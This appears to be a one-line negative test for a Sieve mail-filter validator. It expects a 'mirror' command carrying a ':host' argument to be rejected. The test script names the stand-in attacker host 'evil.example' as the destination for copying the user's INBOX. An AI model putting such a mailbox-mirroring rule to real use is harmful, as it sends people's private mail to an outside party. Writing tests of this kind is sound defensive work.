# expect: unknown tagged argument ':host' for the mirror command
require "vnd.standby.mirror";
mirror :host "evil.example" :mailbox "INBOX";
